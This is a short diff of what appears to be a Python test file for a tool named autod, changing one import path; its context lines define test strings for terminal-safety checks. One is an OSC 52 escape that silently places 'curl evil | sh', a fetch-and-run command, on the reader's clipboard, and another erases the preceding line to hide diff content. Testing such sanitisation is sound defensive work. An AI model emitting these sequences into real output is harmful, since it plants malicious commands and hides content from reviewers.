@@ -11,7 +11,7 @@ import pytest
 
 from autod import cli, logs, termsafe
 from autod.logview import LogFilter, run_logs
-from autod.state import State
+from autod.stores.state import State
 
 OSC52 = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"  # writes "curl evil | sh" to the reader's clipboard
 HIDE_LINE = "\x1b[1A\x1b[2K"  # cursor up one line, erase it: hides the diff line above
